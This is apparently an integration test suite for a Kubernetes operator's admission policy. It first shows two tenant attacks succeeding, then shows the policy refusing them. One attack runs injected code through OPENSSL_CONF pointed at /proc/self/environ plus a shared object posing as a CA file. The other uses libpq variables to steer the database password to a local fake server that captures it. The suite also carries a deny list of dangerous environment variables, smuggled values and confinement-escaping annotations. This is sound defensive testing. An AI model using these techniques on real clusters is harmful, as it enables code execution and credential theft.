import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { parse } from 'yaml';
import { type Environment, startEnvironment, type Tenant } from '../../../lab/kubernetes/environment.ts';
import { kubectl } from '../../../lab/kubernetes/kubectl.ts';
import type { Operator } from '../../../lab/kubernetes/operator.ts';
import type { KubeObject } from '../../../lab/kubernetes/test-api.ts';
import { runCli } from '../../../lab/process/bundle.ts';
import { eventually } from '../../../lab/process/eventually.ts';
import { OWNED, RUNS_SHARED_OBJECT, sharedObject } from '../../support/shared-object.ts';

const POLICY = new URL('../../../manifests/admission-policy.yaml', import.meta.url).pathname;
const CRD = new URL('../../../crds/glanceschemas.db.glance.openstack.org.yaml', import.meta.url);
const PASSWORD = 'not-for-tenants';

type Variables = readonly { readonly name: string; readonly value: string }[];

/** Has OpenSSL read the environment as its configuration, which loads what is mounted as the CA. */
function loadedBy(file: string): Variables {
  const lines = ['nodejs_conf = a', '[a]', 'providers = b', '[b]', 'own = c', '[c]', `module = ${file}`];
  return [
    { name: 'PATH', value: ['/usr/bin', ...lines, 'activate = 1', '#'].join('\n') },
    { name: 'OPENSSL_CONF', value: '/proc/self/environ' },
  ];
}

/** Sends who connects to PostgreSQL elsewhere. */
function ledTo(port: number): Variables {
  return [
    { name: 'PGHOSTADDR', value: '127.0.0.1' },
    { name: 'PGPORT', value: String(port) },
  ];
}

/**
 * What a tenant can do who may write GlanceSchemas and a CA, where
 * `manifests/admission-policy.yaml` is in force: each attack by the real bundle with the
 * environment that the resource asks for. Each is shown to do harm first: else a refusal shows
 * nothing.
 */
describe('attacks past the shipped admission policy', () => {
  let environment: Environment;
  let operator: Operator;
  let thief: Server;
  let stolen: string[];
  let tenants = 0;

  before(async () => {
    environment = await startEnvironment();
    operator = await environment.operator();
    thief = await startThief();
    const applied = await kubectl(environment.plane.kubeconfigPath, ['apply', '-f', POLICY]);
    expect(applied.code, applied.stderr).to.equal(0);
    const probe = await tenant();
    await eventually(async () => {
      const answer = await probe.attempt({ job: { image: 'evil:1' } }, '?dryRun=All');
      expect(answer.body.message).to.contain('job.image is left to the operator');
    });
  });

  after(async () => {
    thief?.close();
    await operator?.stop();
    await environment?.stop();
  });

  /** Asks whoever comes for the password in clear, as a server of PostgreSQL may. */
  async function startThief(): Promise<Server> {
    stolen = [];
    const server = createServer((socket) => {
      socket.on('error', () => undefined);
      socket.on('data', (data) => {
        if (data.length === 8 && data.readInt32BE(4) === 80_877_103) {
          socket.write('N');
        } else if (data[0] === 'p'.charCodeAt(0)) {
          stolen.push(data.subarray(5, -1).toString());
          socket.end();
        } else {
          socket.write(Buffer.from([...Buffer.from('R'), 0, 0, 0, 8, 0, 0, 0, 3]));
        }
      });
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    return server;
  }

  const thiefPort = () => (thief.address() as AddressInfo).port;

  async function tenant(connection = `postgresql://glance:${PASSWORD}@127.0.0.1:1/glance`) {
    tenants += 1;
    const where = await environment.tenant(`attacks-${tenants}`, connection);
    await environment.api.call('POST', `/api/v1/namespaces/${where.namespace}/secrets`, {
      metadata: { name: 'own-ca' },
      data: { 'ca.crt': sharedObject().toString('base64') },
    });
    return { ...where, attempt: (spec: object, query = '') => attempt(where, spec, query) };
  }

  function attempt(where: Tenant, spec: object, query: string) {
    return environment.api.request('POST', `${where.path}${query}`, {
      apiVersion: 'db.glance.openstack.org/v1alpha1',
      kind: 'GlanceSchema',
      metadata: { name: 'glance' },
      spec: {
        revision: 'mitaka02',
        database: { secretRef: { name: 'glance-db' }, tls: { mode: 'prefer' } },
        ...spec,
      },
    });
  }

  const WITH_CA = {
    secretRef: { name: 'glance-db' },
    tls: { caSecretRef: { name: 'own-ca' }, mode: 'prefer' },
  };

  describe('do harm where nothing refuses them', () => {
    it('code of its own, by PATH, OPENSSL_CONF and a CA that is a shared object', async function () {
      if (!RUNS_SHARED_OBJECT) return this.skip();
      const folder = mkdtempSync(join(tmpdir(), 'glance-schema-attack-'));
      const file = join(folder, 'ca.crt');
      writeFileSync(file, sharedObject());
      const ran = await runCli(['db', 'version'], asEnvironment(loadedBy(file)));
      rmSync(folder, { recursive: true });
      expect(ran).to.deep.include({ code: OWNED.code, stderr: OWNED.says });
    });

    it('the password to a host of its choice, by a variable of libpq', async () => {
      const connection = `postgresql://glance:${PASSWORD}@db.openstack.svc/glance`;
      const variables = { ...asEnvironment(ledTo(thiefPort())), DATABASE_CONNECTION: connection };
      // The port is one of those that a URL leaves out.
      await runCli(['db', 'version'], variables);
      expect(stolen.splice(0)).to.include(PASSWORD);
    });
  });

  /**
   * Those that Node, OpenSSL, the loader, the resolver, the C library, libpq's readers or the shell
   * read.
   */
  const HOSTILE: readonly string[] = [
    ...['PATH', 'HOME', 'TMPDIR', 'SHELL', 'USER', 'HOSTNAME', 'PWD', 'IFS', 'ENV', 'BASH_ENV'],
    ...['NODE_OPTIONS', 'NODE_EXTRA_CA_CERTS', 'NODE_PATH', 'NODE_TLS_REJECT_UNAUTHORIZED', 'NODE_ENV'],
    ...['NODE_USE_ENV_PROXY', 'NODE_REPL_EXTERNAL_MODULE', 'UV_THREADPOOL_SIZE', 'ICU_DATA', 'NODE_ICU_DATA'],
    ...['OPENSSL_CONF', 'OPENSSL_MODULES', 'OPENSSL_ENGINES', 'OPENSSL_CONF_INCLUDE', 'SSL_CERT_FILE'],
    ...['SSL_CERT_DIR', 'SSLKEYLOGFILE', 'LD_PRELOAD', 'LD_LIBRARY_PATH', 'LD_AUDIT', 'GLIBC_TUNABLES'],
    ...['MALLOC_PERTURB_', 'GCONV_PATH', 'LOCPATH', 'NLSPATH', 'LANGUAGE', 'TZDIR', 'MALLOC_TRACE'],
    ...['LOCALDOMAIN', 'RES_OPTIONS', 'HOSTALIASES', 'RESOLV_HOST_CONF', 'RESOLV_MULTI', 'NSS_WRAPPER_HOSTS'],
    ...['PGHOST', 'PGHOSTADDR', 'PGPORT', 'PGSSLMODE', 'PGSSLROOTCERT', 'PGOPTIONS', 'PGSERVICE'],
    ...['PGSERVICEFILE', 'PGSYSCONFDIR', 'PGPASSFILE', 'PGREQUIREAUTH', 'PGPASSWORD', 'MYSQL_HOME'],
    ...['OS_DATABASE__CONNECTION', 'OS_DATABASE__CONNECTION_PARAMETERS', 'DATABASE_CONNECTION'],
    ...[
      'GLANCE_SCHEMA_IMAGE',
      'KUBECONFIG',
      'KUBERNETES_SERVICE_HOST',
      'NO_COLOR',
      'DEBUG',
      'tz',
      'LC_',
      'X',
    ],
    ...['LC_ALL\nPATH', 'TZ ', ' TZ', 'TZ=x'],
  ];

  it('a workload of another namespace in contractAfter is refused at admission', async () => {
    const { attempt } = await tenant();
    const names = [
      '../../kube-system/deployments/coredns',
      'kube-system/coredns',
      'api?watch=true',
      '%2e%2e',
      '..',
      '',
    ];
    for (const name of names) {
      const answer = await attempt({ contractAfter: [{ kind: 'Deployment', name }] }, '?dryRun=All');
      expect(answer.body.message, name).to.contain('spec.contractAfter[0].name');
    }
  });

  /** What is allowed by its name and refused by what it is to hold. */
  const VALUES: readonly (readonly [string, string])[] = [
    ['TZ', '/etc/glance-schema/tls/ca.crt'],
    ['TZ', ':/etc/glance-schema/tls/ca.crt'],
    ['TZ', 'x/../../../../etc/glance-schema/tls/ca.crt'],
    ['TZ', '$(DATABASE_CONNECTION)'],
    ['TZ', 'UTC\nnodejs_conf = a'],
    ['LANG', '/etc/glance-schema/tls'],
    ['LC_ALL', 'C/../../etc/glance-schema/tls'],
    ['HTTP_PROXY', 'http://proxy\nnodejs_conf = a'],
    ['https_proxy', 'http://$(DATABASE_CONNECTION)'],
  ];

  const env = (variables: Variables) => ({ job: { env: variables } });

  describe('are refused at admission', () => {
    it('code of its own, by PATH, OPENSSL_CONF and a CA that is a shared object', async function () {
      if (!RUNS_SHARED_OBJECT) return this.skip();
      const where = await tenant();
      const answer = await where.attempt({
        database: WITH_CA,
        ...env(loadedBy('/etc/glance-schema/tls/ca.crt')),
      });
      expect(answer.status, await whatItsPodSaid(where)).to.equal(422);
    });

    it('the password to a host of its choice, by a variable of libpq', async () => {
      const where = await tenant(`postgresql://glance:${PASSWORD}@db.openstack.svc/glance`);
      const answer = await where.attempt(env(ledTo(thiefPort())));
      await whatItsPodSaid(where);
      expect(stolen.splice(0), 'the password').to.deep.equal([]);
      expect(answer.status).to.equal(422);
    });

    /** Of an attack that was let in, for the message of the test that fails. */
    async function whatItsPodSaid(where: Tenant): Promise<string> {
      if ((await environment.api.request('GET', `${where.path}/glance`)).status === 404) return '';
      return eventually(async () => {
        const [pod] = await where.pods();
        expect(pod?.status?.phase).to.equal('Failed');
        return `its pod said: ${environment.node.logs(where.namespace, pod?.metadata?.name ?? '')}`;
      });
    }

    it('every other name but those of proxies, time zone and locale', async () => {
      const where = await tenant();
      for (const name of HOSTILE) {
        const answer = await where.attempt(env([{ name, value: 'x' }]), '?dryRun=All');
        expect(answer.status, name).to.equal(422);
        expect(answer.body.message, name).to.contain('in job.env');
      }
    });

    it('values that name files, other variables or several lines', async () => {
      const where = await tenant();
      for (const [name, value] of VALUES) {
        const answer = await where.attempt(env([{ name, value }]), '?dryRun=All');
        expect(answer.status, `${name}=${value}`).to.equal(422);
      }
    });

    it('a value from elsewhere, by the policy', async () => {
      const where = await tenant();
      const valueFrom = { secretKeyRef: { name: 'glance-db', key: 'connection' } };
      const variables = [{ name: 'HTTP_PROXY', valueFrom }];
      const answer = await where.attempt({ job: { env: variables } }, '?dryRun=All');
      expect(answer.body.message).to.contain('job.env takes no valueFrom here');
    });

    it('a Secret of the namespace to a host of its choice, by the policy', async () => {
      const where = await tenant();
      const key = { name: 'own-ca', key: 'ca.crt' };
      const database = { engine: 'mysql', host: '127.0.0.1', name: 'x', userSecretRef: key };
      const answer = await where.attempt(
        { database: { ...database, passwordSecretRef: key } },
        '?dryRun=All',
      );
      expect(answer.body.message).to.contain('database takes secretRef only here');
    });

    it("an annotation by which the container's confinement is another, and any other by the policy", async () => {
      const where = await tenant();
      for (const [name, says] of [
        ['container.apparmor.security.beta.kubernetes.io/migrate', 'in job.annotations'],
        ['io.kubernetes.cri-o.Devices', 'in job.annotations'],
        ['example.org/ticket', 'job.annotations are left to the operator here'],
      ] as const) {
        const answer = await where.attempt({ job: { annotations: { [name]: 'unconfined' } } }, '?dryRun=All');
        expect(answer.status, name).to.equal(422);
        expect(answer.body.message, name).to.contain(says);
      }
    });

    it('a label, which may give an identity or a way through a NetworkPolicy, by the policy', async () => {
      const where = await tenant();
      const labels = { 'azure.workload.identity/use': 'true' };
      const answer = await where.attempt({ job: { labels } }, '?dryRun=All');
      expect(answer.body.message).to.contain('job.labels are left to the operator here');
    });
  });

  it('what proxies, time zone and locale need is taken, and is in the pod', async () => {
    const where = await tenant(await environment.postgres.createDatabase('allowed'));
    const variables = [
      { name: 'TZ', value: 'America/Argentina/Buenos_Aires' },
      { name: 'LANG', value: 'de_DE.UTF-8@euro' },
      { name: 'LC_ALL', value: 'C.UTF-8' },
      { name: 'HTTPS_PROXY', value: 'http://user:pass%20word@proxy.example.org:3128/' },
      { name: 'no_proxy', value: '.svc,10.0.0.0/8,*.example.org,[fd00::1]' },
    ];
    const answer = await where.attempt(env(variables));
    expect(answer.status, answer.text).to.equal(201);
    await where.reaches('UpToDate');
    const [pod] = await where.pods();
    expect(pod?.spec.containers[0].env.slice(0, variables.length)).to.deep.equal(variables);
  });

  // The last ones: they take the rules off the CRD.
  describe('come to nothing where the CRD is an older one', () => {
    before(async () => {
      const crd = parse(readFileSync(CRD, 'utf8'));
      for (const node of everyNode(crd)) {
        delete node['x-kubernetes-validations'];
        delete node.pattern;
      }
      const applied = await kubectl(
        environment.plane.kubeconfigPath,
        ['apply', '--server-side', '--force-conflicts', '-f', '-'],
        {
          input: JSON.stringify(crd),
        },
      );
      expect(applied.code, applied.stderr).to.equal(0);
      const probe = await tenant();
      await eventually(async () => {
        const answer = await probe.attempt(env([{ name: 'PATH', value: 'x' }]), '?dryRun=All');
        expect(answer.status).to.equal(201);
      });
    });

    it('code of its own, by PATH, OPENSSL_CONF and a CA that is a shared object', async () => {
      const where = await tenant(await environment.postgres.createDatabase('code'));
      const variables = loadedBy('/etc/glance-schema/tls/ca.crt');
      expect((await where.attempt({ database: WITH_CA, ...env(variables) })).status).to.equal(201);
      const log = await eventually(async () => {
        const [pod] = await where.pods();
        expect(pod?.status?.phase).to.be.oneOf(['Succeeded', 'Failed']);
        return environment.node.logs(where.namespace, pod?.metadata?.name ?? '');
      });
      expect(log).not.to.contain(OWNED.says);
    });

    it('the password to a host of its choice, by a variable of libpq', async () => {
      const where = await tenant(`postgresql://glance:${PASSWORD}@db.openstack.svc/glance`);
      expect((await where.attempt(env(ledTo(thiefPort())))).status).to.equal(201);
      await where.reaches('DatabaseUnreachable', 60_000);
      expect(stolen.splice(0)).to.deep.equal([]);
    });

    it('every hostile variable, value and annotation is left out of the pod', async () => {
      const where = await tenant(await environment.postgres.createDatabase('left_out'));
      const names = HOSTILE.filter((name) => /^[-._a-zA-Z0-9]+$/.test(name));
      const variables = [...VALUES, ...names.map((name) => [name, 'x'] as const)]
        .map(([name, value]) => ({ name, value }))
        .slice(0, 64);
      // The policy stays, and has something to say about annotations.
      await kubectl(environment.plane.kubeconfigPath, ['delete', '-f', POLICY]);
      const annotations = {
        'container.apparmor.security.beta.kubernetes.io/migrate': 'unconfined',
        'io.kubernetes.cri-o.Devices': '/dev/kmsg',
        'cdi.k8s.io/x': 'vendor.com/device=all',
        'io.katacontainers.config.hypervisor.path': '/x',
        'example.org/ticket': '4711',
      };
      await eventually(async () => {
        const answer = await where.attempt({ job: { env: variables, annotations } });
        expect(answer.status, answer.text).to.equal(201);
      });
      const pod = await eventually(async () => (await where.pods())[0] ?? expect.fail('no pod'));
      expect(pod.spec.containers[0].env.map(({ name }: KubeObject) => name)).to.deep.equal([
        'GLANCE_SCHEMA_CONNECTION_SOURCE',
        'DATABASE_CONNECTION',
      ]);
      expect(pod.metadata?.annotations).to.include({ 'example.org/ticket': '4711' });
      expect(
        Object.keys(pod.metadata?.annotations ?? {}).filter((name) => name in annotations),
      ).to.deep.equal(['example.org/ticket']);
      expect(pod.spec.securityContext.appArmorProfile).to.equal(undefined);
      expect(pod.spec.containers[0].securityContext.appArmorProfile).to.equal(undefined);
    });
  });
});

function asEnvironment(variables: Variables): Record<string, string> {
  return Object.fromEntries(variables.map(({ name, value }) => [name, value]));
}

/** Every object in a tree, itself included. */
function everyNode(tree: unknown): Record<string, unknown>[] {
  if (typeof tree !== 'object' || tree === null) return [];
  return [tree as Record<string, unknown>, ...Object.values(tree).flatMap(everyNode)];
}
